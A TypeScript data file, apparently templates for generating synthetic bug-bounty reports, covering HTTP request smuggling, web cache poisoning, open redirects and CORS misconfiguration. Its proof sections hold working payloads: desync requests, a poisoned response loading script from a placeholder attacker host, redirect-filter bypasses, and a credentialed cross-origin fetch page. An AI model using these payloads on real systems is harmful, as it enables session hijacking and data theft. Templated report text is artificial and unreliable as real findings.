import type { VulnerabilityClass } from './vulnerability-class.ts'

const requestSmuggling: VulnerabilityClass = {
  key: 'request-smuggling',
  type: 'HTTP request smuggling',
  cwe: 444,
  weight: 2,
  surfaces: ['web', 'api', 'infrastructure'],
  shape: 'takeover',
  severities: [
    ['Critical', 2],
    ['High', 6],
    ['Medium', 1],
  ],
  places: [
    {
      method: 'POST',
      path: '/',
      parameter: 'Transfer-Encoding',
      detail: 'CL.TE',
      excerpt: `POST / HTTP/1.1
Host: «host»
Content-Type: application/x-www-form-urlencoded
Content-Length: 39
Transfer-Encoding: chunked

0

GET /«handle» HTTP/1.1
X-Ignore: x`,
    },
    {
      method: 'POST',
      path: '/login',
      parameter: 'Transfer-Encoding',
      detail: 'TE.CL with a tab in the header',
      excerpt: `POST /login HTTP/1.1
Host: «host»
Content-Length: 4
Transfer-Encoding:[tab]chunked

2a
GET /«handle» HTTP/1.1
X-Ignore: aaaaaaaaa
0

`,
    },
    {
      method: 'POST',
      path: '«api»/ping',
      parameter: 'content-length',
      detail: 'H2.CL',
      excerpt: `:method         POST
:path           «api»/ping
:authority      «host»
content-length  0

GET /«handle» HTTP/1.1
X-Ignore: x`,
    },
  ],
  titles: [
    'HTTP request smuggling («detail») on «host» captures requests of others',
    '«detail» desync between the edge and «framework»',
    'Request smuggling via `«parameter»`, front end and back end disagree',
    'Hidden second request at «path» (`«parameter»`, «detail»)',
  ],
  summaries: [
    'Edge and backend of «host» disagree about where a request ends («detail»). What I put behind it becomes the beginning of the next visitor’s request.',
    'With «detail» a second request can be hidden inside the first one. I proved it against my own connections only.',
  ],
  steps: [
    [
      'Send the request below twice on connections of your own.',
      'The second, perfectly normal one gets the 404 of `/«handle»`.',
      'Repeat: nine of ten times the same. I stopped after that, because other visitors may be hit.',
    ],
  ],
  proofs: [
    [
      { say: 'Raw, with CRLF at the ends of lines:', lang: 'http', code: '«excerpt»' },
      {
        say: 'Answers on two connections:',
        lang: 'text',
        code: '1  POST «path»   200  «server»\n2  GET /         404  {"path":"/«handle»"}      <- the second one got the answer to mine',
      },
    ],
  ],
  impacts: [
    'Requests of other visitors can be captured with their cookies, or answered with a page of the attacker.',
    'All access rules at the edge are void, and the cache can be filled with wrong answers for everybody.',
  ],
  fixes: ['Speak HTTP/2 to the backend, and refuse requests with both headers.'],
  notes: ['Tested at 04:00 on the canary, desync is real. Vendor case is open; edge normalises since 05:10.'],
}

const cachePoisoning: VulnerabilityClass = {
  key: 'cache-poisoning',
  type: 'Web cache poisoning and deception',
  cwe: 349,
  weight: 3,
  surfaces: ['web', 'infrastructure'],
  shape: 'script',
  severities: [
    ['High', 4],
    ['Medium', 5],
  ],
  places: [
    {
      path: '/',
      parameter: 'X-Forwarded-Host',
      detail: 'a header',
      excerpt: `GET /?cb=«handle» HTTP/1.1
Host: «host»
X-Forwarded-Host: «attacker»

HTTP/1.1 200 OK
X-Cache: miss

GET /?cb=«handle» HTTP/1.1
Host: «host»

HTTP/1.1 200 OK
X-Cache: hit
Age: 14

<script src="https://«attacker»/bundle.js"></script>`,
    },
    {
      path: '/assets/config.js',
      parameter: 'callback',
      detail: 'a parameter',
      excerpt: `GET /assets/config.js?cb=«handle»&callback=alert(origin)// HTTP/1.1
Host: «host»

HTTP/1.1 200 OK
X-Cache: miss

GET /assets/config.js?cb=«handle» HTTP/1.1
Host: «host»

HTTP/1.1 200 OK
X-Cache: hit

alert(origin)//({"api":"https://«host»"})`,
    },
    {
      path: '/home/x.css',
      parameter: 'path',
      detail: 'the ending of the path',
      titles: [
        'Cache deception: «path» stores the page of the victim for everybody',
        'Personal pages of «host» land in the shared cache (`«path»`)',
      ],
      summaries: [
        'An address such as `«path»` is taken for a static file by the cache and kept, although the application answers with the page of the signed-in user.',
        'One click of the victim on `https://«host»«path»` leaves their page in the cache, where anybody can fetch it for five minutes.',
      ],
      steps: [
        [
          'Sign in as `«victim»` and open `https://«host»«path»`. The start page is shown.',
          'Open the same address in a private window: the page of `«victim»`, without signing in.',
        ],
      ],
      excerpt: `# signed in as «victim»
GET /home/x.css HTTP/1.1
Cookie: «cookieName»=«session»

HTTP/1.1 200 OK
Content-Type: text/html
X-Cache: miss

# private window, no cookie
GET /home/x.css HTTP/1.1

HTTP/1.1 200 OK
X-Cache: hit
Age: 8

<title>«company»</title> … <span class="account">«victim»</span>`,
    },
  ],
  titles: [
    'Web cache poisoning on «host» with `«parameter»`',
    'Unkeyed `«parameter»` poisons «path» for all visitors',
    'One request changes «path» for everybody («detail» outside the cache key)',
    'Cache of «host» can be filled by strangers (`«parameter»`)',
  ],
  summaries: [
    'The cache does not take «detail» (`«parameter»`) into account, the application does. One request of mine decides what everybody gets for the next five minutes.',
    '`«parameter»` changes the answer of `«path»` but is not part of the cache key.',
  ],
  steps: [
    [
      'Use a cache buster of your own (`?cb=«handle»`), as I did, so that nobody else is touched.',
      'Send the request below until `x-cache: miss` is seen.',
      'Ask for the same address without the header: `x-cache: hit`, with my content.',
    ],
  ],
  proofs: [[{ say: 'One after the other:', lang: 'http', code: '«excerpt»' }]],
  impacts: [
    'Content of the attacker’s choice, or content of other people, is delivered from the cache of «host» until the entry expires, and again after that.',
    'Every visitor is concerned, without a click on anything strange. Sessions and «secrets» are within reach.',
  ],
  fixes: [
    'Take the header into the cache key or drop it, and send `Cache-Control: no-store` with personal pages.',
  ],
  notes: [
    'Reproduced with a buster. CDN rule "cache everything with .css/.js" is the cause; marketing wanted it in 2022.',
  ],
}

const openRedirect: VulnerabilityClass = {
  key: 'open-redirect',
  type: 'Open redirect',
  cwe: 601,
  weight: 5,
  surfaces: ['web', 'mobile'],
  shape: 'click',
  severities: [
    ['Medium', 3],
    ['Low', 7],
  ],
  places: [
    { path: '/login', parameter: 'next' },
    { path: '/out', parameter: 'url' },
    { path: '/logout', parameter: 'returnTo' },
    { path: '/email/track', parameter: 'u' },
  ],
  titles: [
    'Open redirect with a backslash at «path» (`«parameter»`)',
    'Redirect filter of «path» bypassed in five ways',
    'Open redirect on «host»«path» through `«parameter»`',
    'Unvalidated redirect: `«parameter»=//«attacker»`',
  ],
  summaries: [
    'The check of `«parameter»` looks for "starts with /", and `/\\«attacker»` does. Browsers read it as another host.',
    '`«path»` sends visitors to whatever `«parameter»` says. The check knows some bad forms, but not all of them.',
  ],
  steps: [['Sign out.', 'Open `https://«host»«path»?«parameter»=/%5C«attacker»`.', 'You are on «attacker».']],
  proofs: [
    [
      {
        say: 'Check:',
        lang: 'bash',
        code: `$ curl -si 'https://«host»«path»?«parameter»=/%5C«attacker»' | grep -i ^location
location: /\\«attacker»`,
      },
    ],
    [
      {
        say: 'Variants that pass:',
        lang: 'text',
        code: `//«attacker»
/\\«attacker»
https:«attacker»
https://«host»@«attacker»
/%09/«attacker»`,
      },
    ],
  ],
  impacts: [
    'Phishing from the real domain: people look at the beginning of a link only.',
    'Together with the sign-in flow it leaks tokens, which I will report on its own if I get it to work.',
  ],
  fixes: ['Parse the address and compare the host, or allow paths only.'],
  notes: ['Works. Not on the OAuth allow list, so no chain. Low as in our table.'],
}

const crossOrigin: VulnerabilityClass = {
  key: 'cross-origin',
  type: 'Cross-origin policy',
  cwe: 942,
  weight: 4,
  surfaces: ['api', 'web'],
  shape: 'click',
  severities: [
    ['High', 3],
    ['Medium', 5],
    ['Low', 2],
  ],
  places: [
    {
      path: '«api»/me',
      parameter: 'Origin',
      detail: 'any origin is reflected',
      excerpt: 'https://«attacker»',
    },
    { path: '«collection»', parameter: 'Origin', detail: 'the origin `null` is allowed', excerpt: 'null' },
    {
      path: '«api»/tokens',
      parameter: 'Origin',
      detail: 'only the beginning of the origin is compared',
      excerpt: 'https://«domain».«attacker»',
    },
  ],
  titles: [
    'CORS on «host»: «detail» and credentials are allowed',
    'CORS misconfiguration: any site can read `«path»` of its visitors',
    'Any website can read `«path»` of a signed-in «customer» («detail»)',
    'Cross-origin reads of «path» («detail»)',
  ],
  summaries: [
    '«Detail», together with `Access-Control-Allow-Credentials: true`. A page of mine reads `«path»` in the name of its visitor.',
    'The answer of `«path»` may be read by foreign pages, since «detail».',
  ],
  steps: [
    ['Sign in to «host».', 'Open the page below from another origin.', 'The data is printed on that page.'],
  ],
  proofs: [
    [
      {
        say: 'Headers:',
        lang: 'http',
        code: `GET «path» HTTP/2
Host: «host»
Origin: «excerpt»
Cookie: «cookieName»=«otherSession»

HTTP/2 200
Access-Control-Allow-Origin: «excerpt»
Access-Control-Allow-Credentials: true
Content-Type: application/json`,
      },
    ],
    [
      {
        say: 'The page:',
        lang: 'html',
        code: `<pre id="out"></pre>
<script type="module">
  const answer = await fetch('https://«host»«path»', { credentials: 'include' })
  out.textContent = await answer.text()
</script>`,
      },
    ],
  ],
  impacts: [
    'Every site that a signed-in «customer» visits can read «secrets».',
    'Reading API tokens this way is as good as the password.',
  ],
  fixes: ['Compare the origin with a list, as a whole.'],
  notes: [
    'Header is there, cookie is SameSite=Lax however, so nothing is sent along by fetch. Works from sibling subdomains only. Medium.',
  ],
}

export const httpBehaviourClasses: readonly VulnerabilityClass[] = [
  requestSmuggling,
  cachePoisoning,
  openRedirect,
  crossOrigin,
]
